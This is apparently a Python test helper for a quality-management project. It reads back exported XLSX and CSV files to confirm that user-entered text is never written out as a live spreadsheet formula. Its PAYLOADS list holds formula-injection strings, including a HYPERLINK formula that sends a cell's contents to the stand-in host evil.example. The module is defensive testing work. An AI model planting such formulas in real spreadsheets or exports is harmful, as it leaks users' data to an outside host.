"""
Reading back the XLSX and CSV files the project writes, to check that text a user typed is never a
live formula there (qms.core.exports). Used by the export tests of every app.
"""

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

#: What an attacker types into a name, a comment or a description (OWASP's examples).
PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)")


def content_of(response) -> bytes:
    """The body of a download, streamed (Wagtail's list export) or not."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_xlsx_inert(content: bytes, payloads=PAYLOADS):
    """No formula anywhere in the workbook; each payload is there, as typed, in a text cell marked "quote prefix"."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(content))
    cells = {cell.value: cell for sheet in workbook for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for payload in payloads:
        assert payload in cells, f"{payload!r} is missing from the workbook"
        cell = cells[payload]
        assert cell.data_type == "s" and cell.quotePrefix, f"{payload!r} is not plain text"
    return workbook


def csv_cells(content: bytes) -> list[str]:
    """Every cell of a CSV: the project's lists and reports separate with ";" (qms.core.exports.csv_content),
    Wagtail's own exports and the import error list with ","; the header line tells which."""
    text = content.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_csv_inert(content: bytes, payloads=PAYLOADS):
    """Each payload is there with a leading apostrophe, and nowhere without it."""
    cells = csv_cells(content)
    for payload in payloads:
        assert "'" + payload in cells, f"{payload!r} is missing or not marked as text"
        assert payload not in cells, f"{payload!r} is written as a formula"
    return cells
